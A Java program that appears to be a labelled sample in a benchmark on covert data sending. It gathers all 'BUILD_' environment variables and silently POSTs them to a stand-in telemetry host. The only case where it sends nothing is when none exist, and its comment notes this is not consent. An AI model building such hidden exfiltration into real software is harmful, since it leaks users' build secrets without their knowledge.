package dev.telltale.bench.programs.g20_nothing_to_send;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.stream.Collectors;

/** Variables are sent unless there are none; that is nobody's consent. */
public final class Program {
    private Program() {}

    public static void main(String[] args) throws Exception {
        String found = System.getenv().entrySet().stream()
                .filter(entry -> entry.getKey().startsWith("BUILD_"))
                .map(entry -> entry.getKey() + "=" + entry.getValue())
                .collect(Collectors.joining("\n"));
        if (found.isEmpty()) {
            return;
        }
        HttpRequest request = HttpRequest.newBuilder(URI.create("http://telemetry.example.com/v1/events"))
                .POST(HttpRequest.BodyPublishers.ofString(found))
                .build();
        HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.discarding());
    }
}
